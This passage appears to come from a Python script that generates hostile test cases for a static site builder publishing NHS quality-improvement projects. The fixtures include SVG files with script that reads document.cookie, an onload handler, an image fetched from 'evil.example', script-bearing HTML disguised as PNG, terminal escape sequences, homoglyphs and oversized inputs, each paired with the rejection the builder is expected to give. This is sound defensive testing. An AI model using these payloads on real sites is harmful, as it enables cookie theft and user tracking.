        why="an SVG image that holds script is refused (opened on its own it would run at the site's address)",
        project={**story("![x](evil.svg)"),
                 "evil.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'},
        expected=dict(outcome="problem", absent=["alert(document.cookie)"],
                      problems=[dict(file="projects/hostile/story.md:3", severity="error",
                                     message="the SVG image 'evil.svg' holds a <script> element, so it is not shown")])),
    "svg-image-with-event-handler": dict(
        why="an SVG image with an onload handler is refused",
        project={**story("![x](evil.svg)"), "evil.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md:3", severity="error",
                                                        message="has an event handler (onload)")])),
    "svg-image-loading-elsewhere": dict(
        why="an SVG image that would fetch from another host is refused",
        project={**story("![x](track.svg)"),
                 "track.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/t.png"/></svg>'},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md:3", severity="error",
                                                        message="links to 'https://evil.example/t.png'")])),
    "html-named-as-png": dict(
        why="an HTML page named .png is refused: a file is copied only when its content is the image its name says",
        project={**story("![x](images/page.png)"), "images/page.png": "<html><script>alert(1)</script></html>"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md:3", severity="error",
                                                        message="'images/page.png' is not a PNG image")])),
    "image-of-another-type": dict(
        why="a Markdown image naming a CSV (or any file but an image) is refused, so data is never copied to the site",
        project=story("![data](data/main-outcome.csv)"),
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md:3", severity="error",
                                                        message="'data/main-outcome.csv' is not an image a page can show")])),
    "image-in-pdsa-plan": dict(
        why="an image from the project folder in a PDSA cycle's text is copied and shown too",
        project={"images/board.png": PNG},
        edits={"projects/hostile/pdsa.yaml": {"    plan": "    plan: \"The huddle board: ![huddle board](images/board.png)\""}},
        expected=dict(outcome="page", pages={
            "projects/hostile/index.html": dict(contains=['<img src="images/images/board.png" alt="huddle board" loading="lazy">']),
            "projects/hostile/images/images/board.png": dict()})),
    # --- names and file names ---
    "organisation-slug-collision": dict(
        why="two organisation names that slug alike each get their own page, with a warning at each project.yaml",
        edits={"projects/hostile/project.yaml": {"organisation": "organisation: Example NHS Trust (North)"},
               "projects/good/project.yaml": {"organisation": "organisation: Example NHS Trust, North"}},
        expected=dict(outcome="problem", problems=[
            dict(file="projects/hostile/project.yaml:7", severity="warning", message="would share the address teams/example-nhs-trust-north/"),
            dict(file="projects/good/project.yaml:7", severity="warning", message="would share the address teams/example-nhs-trust-north/")])),
    "organisation-names-differing-in-case": dict(
        why="an organisation written in capitals in one project is told apart with a warning, not silently merged or overwritten",
        edits={"projects/hostile/project.yaml": {"organisation": "organisation: EXAMPLE TRUST"},
               "projects/good/project.yaml": {"organisation": "organisation: Example Trust"}},
        expected=dict(outcome="problem", problems=[
            dict(file="projects/hostile/project.yaml:7", severity="warning", message="would share the address teams/example-trust/")])),
    "homoglyph-organisation": dict(
        why="an organisation name with a Cyrillic look-alike letter is flagged as looking like another",
        alone=True,
        edits={"projects/hostile/project.yaml": {"organisation": "organisation: Your \u043erganisation"}},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/project.yaml", severity="warning", message="look alike")])),
    "measure-id-is-gap-chart-file": dict(
        why="a measure id that is another measure's derived chart file (by-group-gap) is a located error",
        project=measures_case(extra=GAP_NAMED_MEASURE),
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/measures.yaml", severity="error", message="by-group-gap")])),
    "long-organisation-name": dict(
        why="a 2,000-character organisation name builds; every file name stays within the file system's limit",
        edits={"projects/hostile/project.yaml": {"organisation": "organisation: " + "Very Long Name NHS Foundation Trust " * 55}},
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(contains=["Very Long Name NHS Foundation Trust"])})),
    "bidi-override-in-group-name": dict(
        why="a right-to-left override in a group name is isolated on the page",
        project=measures_case(group="Black \u202eBritish"),
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(contains=["\u2068Black \u202eBritish\u2069"])})),
    "terminal-escape-in-story-line": dict(
        why="terminal control sequences in a problem's text are shown as escapes, never obeyed",
        project=story(f"\x1b[2J\x1b]0;owned\x07 NHS number {NHS}"),
        expected=dict(outcome="problem", output_absent=["\x1b"],
                      problems=[dict(file="projects/hostile/story.md:3", severity="error", message=NHS_ERROR)])),
    "story-not-utf8": dict(
        why="a story.md in another encoding is a located error at the first bad line",
        project={"story.md": "# Story\n\nCaf\udce9\n"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md:3", severity="error",
                                                        message="story.md is not UTF-8 text")])),
    # --- bounded resources ---
    "too-many-groups": dict(
        why="a measure with more groups than the limit (a column of patient numbers as groups) is a located error",
        project=many_groups(60),
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/data/by-group.csv:52", severity="error",
                                                        message="has more than 50 groups in column 'group', the limit")])),
    "story-too-long-to-render": dict(
        why="a 2 MB story.md (within the file limit) is over the Markdown limit: rendering it would take ~170 MB",
        big_files={"projects/hostile/story.md": ["", "A story. ", STORY_PIECES_2MB, ""]},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md:1", severity="error",
                                                        message="this Markdown text is longer than the limit of 1,024 KB")])),
    "too-many-pdsa-cycles": dict(
        why="a PDSA log with more cycles than the limit is a located error naming the limit and its variable",
        project={"pdsa.yaml": cycles(501)},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/pdsa.yaml:3002", severity="error",
                                                        message="501 PDSA cycles, more than the limit of 500")])),
}


def unstratified_measures() -> str:
    """The scaffold's measures.yaml without its groups: for cases whose main-outcome data has one row a month."""
    text = (Path(qisite.__file__).parent / "scaffold" / "measures.yaml").read_text(encoding="utf-8")
    return "".join(line for line in text.splitlines(keepends=True)
                   if not line.lstrip().startswith(("group:", "reference_group:")))


def with_unstratified_outcome(project: dict[str, str], big_files: dict[str, list]) -> dict[str, str]:
    written = big_files.get("projects/hostile/data/main-outcome.csv")
    data = project.get("data/main-outcome.csv", written[0] if written else "")
    if not data or data.startswith("->") or "measures.yaml" in project or "group" in data.split("\n", 1)[0]:
        return project
    return {**project, "measures.yaml": unstratified_measures()}


def write_case(name: str, case: dict) -> None:
    case = {**case, "project": with_unstratified_outcome(case.get("project", {}), case.get("big_files", {}))}
    folder = HERE / name
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir()
    for part in ("project", "network"):
        for relative, content in case.get(part, {}).items():
            path = folder / part / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            if content.startswith("->"):
                os.symlink(content[2:], path)
            else:
                path.write_text(content, encoding="utf-8", errors="surrogateescape", newline="")  # \udcXX: the byte XX
    expected = {"why": case["why"], **{k: case[k] for k in ("alone", "fifos", "big_files", "written", "scaffolds", "environment", "edits")
                                       if k in case},
                **case["expected"]}
    (folder / "expected.txt").write_text(yaml.safe_dump(expected, allow_unicode=True, sort_keys=False, width=200),
                                         encoding="utf-8")


if __name__ == "__main__":
    for case_name, case_spec in CASES.items():
        write_case(case_name, case_spec)
    print(f"wrote {len(CASES)} cases into {HERE}")
